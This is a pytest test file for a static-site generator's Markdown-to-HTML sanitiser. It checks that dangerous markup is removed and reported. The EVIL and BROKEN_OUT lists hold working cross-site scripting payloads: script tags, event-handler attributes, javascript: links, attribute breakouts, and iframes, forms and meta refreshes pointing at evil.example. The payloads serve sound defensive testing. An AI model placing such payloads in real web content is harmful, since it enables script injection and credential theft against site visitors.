"""What becomes of HTML in Markdown."""

from __future__ import annotations

import json
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from material.extensions import emoji
from selectolax.lexbor import LexborHTMLParser

from deskpress.model.tools import TOOLS
from deskpress.source.markdown import Converter
from deskpress.source.parsed import body_of
from deskpress.source.portable import make_portable
from deskpress.source.sanitize import _HARMLESS as PLAIN_TAG
from deskpress.source.sanitize import _cleaner as cleaner
from deskpress.source.sanitize import _parts as parts
from deskpress.source.sanitize import look, sanitized
from tests.conftest import Site, drawn

EVIL = {
    "<script>alert(1)</script>": "<script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>": "<script>",
    "<img src=x onerror=alert(1)>": "onerror",
    "<a href='javascript:alert(1)'>x</a>": "href=javascript:alert(1)",
    "<a href=' jav&#x09;ascript:alert(1)'>x</a>": "href",
    "[x](javascript:alert(1))": "href=javascript:alert(1)",
    "[x](vbscript:x)": "href=vbscript:x",
    "[x](/a){onclick=alert(1)}": "onclick",
    "<iframe src=https://evil.example></iframe>": "<iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>": "<iframe>",
    "<object data=x.swf></object>": "<object>",
    "<embed src=x.swf>": "<embed>",
    "<form action=//evil.example><input name=password></form>": "<form>",
    "<style>body{display:none}</style>": "<style>",
    "<p style='position:fixed;inset:0'>x</p>": "style",
    "<svg><script>alert(1)</script></svg>": "<script>",
    "<svg onload=alert(1)></svg>": "onload",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>": "xlink:href",
    "<svg><use href='data:image/svg+xml,x'/></svg>": "<use>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>": "<animate>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>": "<math>",
    "<base href=//evil.example/>": "<base>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>": "<meta>",
    "<link rel=stylesheet href=//evil.example/x.css>": "<link>",
    "<details ontoggle=alert(1) open>x</details>": "ontoggle",
    "<video><source onerror=alert(1)></video>": "onerror",
    "<button formaction=javascript:alert(1)>x</button>": "formaction",
    "<input type=image src=x onerror=alert(1)>": "onerror",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>": "<noscript>",
}


@pytest.mark.parametrize(("text", "what"), EVIL.items(), ids=list(EVIL))
def test_what_could_run_something_is_left_out_and_named(text: str, what: str) -> None:
    converted = Converter(["attr_list"], {}).convert(f"Before.\n\n{text}\n\nAfter.\n")
    lowered = converted.html.lower()
    assert not any(
        word in lowered for word in ("<script", "javascript:", "vbscript:", "<iframe", "<style", "<form")
    )
    tree = LexborHTMLParser(converted.html)
    assert not [a for node in tree.css("*") for a in node.attributes if a.startswith("on") or a == "style"]
    assert any(removed.startswith(what) for removed in converted.removed), converted.removed
    assert "Before." in lowered.title()
    assert "after." in lowered


HARMLESS = [
    "<details open><summary>More</summary>\n\nText\n</details>",
    '<div class="grid" id="x" data-tabs="1:2" aria-label="y"><p title="z">a</p></div>',
    '<img src="a.png" srcset="b.png 2x" alt="x" width="3" height="4" loading="lazy">',
    '<video controls poster="p.jpg"><source src="v.mp4" type="video/mp4"></video>',
    "<kbd>Ctrl</kbd> <mark>m</mark> <abbr title='a'>b</abbr> H<sub>2</sub>O <ruby>漢<rt>kan</rt></ruby>",
    "<table><tr><td colspan=2 align=right>x</td></tr></table>",
    "<!-- a comment -->",
    *(f"<{tool} rules='amazon-2012' compact></{tool}>" for tool in sorted(TOOLS)),
]


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_html_stays_as_it_was(text: str) -> None:
    safe = Converter(["md_in_html", "attr_list"], {}).convert(text)
    trusted = Converter(["md_in_html", "attr_list"], {}, "trusted").convert(text)
    assert safe == trusted


def test_what_extensions_make_is_not_touched() -> None:
    text = """
!!! note "Title"
    Text with `code` and a footnote.[^1]

[^1]: Note.

=== "One"
    A
=== "Two"
    B

- [x] done
- [ ] open

| a | b |
|:--|--:|
| 1 | 2 |

++ctrl+c++ ==mark== ~~gone~~ H~2~O :material-account:

```python title="x.py" linenums="1" hl_lines="1"
print(1)
```

term
:   definition
"""
    extensions = (
        "abbr admonition attr_list def_list footnotes md_in_html tables toc pymdownx.caret pymdownx.emoji"
        " pymdownx.details pymdownx.highlight pymdownx.keys pymdownx.mark pymdownx.superfences"
        " pymdownx.tabbed pymdownx.tasklist pymdownx.tilde"
    ).split()
    configs = {
        "pymdownx.tabbed": {"alternate_style": True},
        "pymdownx.tasklist": {"custom_checkbox": True},
        "pymdownx.emoji": {
            "emoji_index": emoji.twemoji,
            "emoji_generator": emoji.to_svg,
        },
    }
    safe = Converter(extensions, configs).convert(text)
    assert safe.removed == ()
    assert safe == Converter(extensions, configs, "trusted").convert(text)
    assert 'class="dp-right"' in safe.html
    assert "<svg" in safe.html


PLAIN = st.from_regex(re.compile(PLAIN_TAG.pattern, PLAIN_TAG.flags), fullmatch=True)
PLAIN_HTML = st.lists(PLAIN | st.text("ab &;:/\"'>\n"), max_size=12)


@pytest.mark.slow
@given(PLAIN_HTML.map("".join))
def test_what_is_taken_for_harmless_is_so_to_the_sanitiser(html: str) -> None:
    assert "<" not in PLAIN_TAG.sub("", html)

    # Neither the same spelling nor, in a table's odd places, the same nesting; but nothing is missing.
    before, after = body_of(html), body_of(cleaner().clean(html))
    assert before is not None
    assert after is not None
    assert set(parts(after)) == set(parts(before))


OURS = st.sampled_from(
    [
        '<p id="__search">',
        '<div class="md-x a">',
        '<i class="m&#100;-x">',
        '<img src="a" alt="">',
        '<a href="#x">',
        '<h3 id="x">',
        "<!-- more -->",
        "</p>",
        "</h3>",
        "text",
    ]
)


@pytest.mark.slow
@given(st.lists(OURS | PLAIN, max_size=8).map("".join), st.booleans())
def test_a_look_at_the_tags_spares_work_and_changes_nothing(html: str, trusted: bool) -> None:
    assert look(html).plain
    assert make_portable(html, (), look(html), trusted=trusted) == make_portable(html, (), trusted=trusted)


@given(st.text(st.sampled_from("<>/='\" \tascriptonlxjv:&;#1\n[]()!-{}"), max_size=60))
def test_nothing_that_runs_comes_through(text: str) -> None:
    for html in (text, f"<svg>{text}", f"<table>{text}", f"<p title='{text}"):
        tree = LexborHTMLParser(f"<body>{sanitized(html).html}")
        for node in tree.css("body *"):
            assert node.tag not in ("script", "style", "iframe", "object", "embed", "form", "base", "meta")
            assert not any(name.startswith("on") for name in node.attributes)


def test_the_warning_names_the_place_and_trusted_content_keeps_all(site: Site) -> None:
    site.configure()
    text = "Fine.\n\n`<script>` is code.\n\nHere: <b onclick='x()'>b</b>\n\n<script>x()</script>\n"
    written = site.post("2012-03-01-a.md", text).read_text()
    first = written.split("\n").index("Fine.") + 1
    found = {(d.span.line, d.span.column, d.problem.partition(" is")[0]) for d in site.build().diagnostics}
    assert found == {(first + 4, 10, "`onclick`"), (first + 6, 1, "`<script>`")}
    assert "x()" not in site.read("2012/03/a.html")
    assert "Content-Security-Policy" in site.read("2012/03/a.html")
    site.configure(options={"raw_html": "trusted"})
    assert site.build().diagnostics == ()
    assert "<script>x()</script>" in site.read("2012/03/a.html")
    assert "Content-Security-Policy" not in site.read("2012/03/a.html")


def test_with_none_html_is_shown_as_text(site: Site) -> None:
    site.configure(options={"raw_html": "none"})
    site.post("2012-03-01-a.md", "A <b>bold</b> word.\n\n<div>block</div>\n")
    site.build()
    page = site.read("2012/03/a.html")
    assert "&lt;b&gt;bold&lt;/b&gt;" in page
    assert "&lt;div&gt;block&lt;/div&gt;" in page


BROKEN_OUT = [
    '[x](?"><script/src=/evil.js></script>)',
    '[x](https://x/"onmouseover="alert(1))',
    '![x](<a.png" onerror="alert(1)>)',
    '<img src="a.png&quot; onerror=&quot;alert(1)" alt="x">',
    '<img srcset="a.png&quot;onerror=&quot;alert(1) 2x" src="b.png" alt="x">',
    '<p title="<delivery-rate></delivery-rate><img src=x onerror=alert(1)><script>alert(2)</script>">a</p>',
    '## H {title="<delivery-rate></delivery-rate><img src=x onerror=alert(1)>"}',
    '<p title="&#21;0&#x15;">a</p>\n\n<delivery-rate></delivery-rate>',
    '<p title="<!-- more --><img src=x onerror=alert(1)>">a</p>',
    '[x][y]\n\n[y]: ?"><script>alert(1)</script>',
]


@pytest.mark.parametrize("mode", ["safe", "none"])
@pytest.mark.parametrize("text", BROKEN_OUT)
def test_nothing_breaks_out_of_an_attribute(site: Site, text: str, mode: str) -> None:
    site.configure(options={"raw_html": mode}, markdown_extensions=["attr_list", "toc"])
    site.post("2012-03-01-a.md", f"{text}\n\nB.\n")
    site.build()
    held = [site.read(path) for path in ("2012/03/a.html", "2012/03/index.html", "blog/index.html")]
    held += [item["content_html"] for item in json.loads(site.read("feed.json"))["items"]]
    for page in held:
        tree = LexborHTMLParser(page)
        body = tree.css_first(".dp-body, .dp-entry") or tree.body
        assert body is not None
        assert not body.css("script")
        for node in body.css("*"):
            assert not [name for name in node.attributes if name.startswith("on")], node.html


def test_an_address_keeps_its_ampersands(site: Site) -> None:
    site.write("posts/a&copy.png", drawn(900, 9))
    site.post("2012-03-01-a.md", "[x](https://x.example/?a=1&copy=2) ![y](a&copy.png)\n")
    site.build()
    page = LexborHTMLParser(site.read("2012/03/a.html"))
    (link,), (image,) = page.css(".dp-body a"), page.css(".dp-body img")
    assert link.attributes["href"] == "https://x.example/?a=1&copy=2"
    assert image.attributes["src"] == "../../posts/a&copy.png"
    assert "../../posts/a&copy.png 900w" in (image.attributes["srcset"] or "")


def test_an_address_with_an_ampersand_is_named_rightly_in_feeds_and_excerpts(site: Site) -> None:
    site.post("2012-03-01-a.md", "[b](#end)\n\n<!-- more -->\n\n## End\n\nC.\n", slug="a&copy")
    site.build()
    (item,) = json.loads(site.read("feed.json"))["items"]
    link = LexborHTMLParser(item["content_html"]).css_first("a")
    assert link is not None
    assert link.attributes["href"] == "https://desk.example/2012/03/a&copy.html#end"
    excerpt = LexborHTMLParser(site.read("blog/index.html")).css_first(".dp-body a")
    assert excerpt is not None
    assert excerpt.attributes["href"] == "../2012/03/a&copy.html#end"


def test_an_id_without_a_value_is_one_that_a_link_can_name() -> None:
    portable = make_portable('<p id>x</p>\n<a href="#">top</a>')
    assert portable.ids == {""}
    assert portable.references == ()


def test_signs_of_a_template_that_become_attributes_are_not_told_as_those(site: Site) -> None:
    site.configure(markdown_extensions=["attr_list"])
    site.write("a.md", "# A\n\nText of a_b.\n{% raw %}\n")
    assert [one for one in site.problems() if "`_`" in one] == []
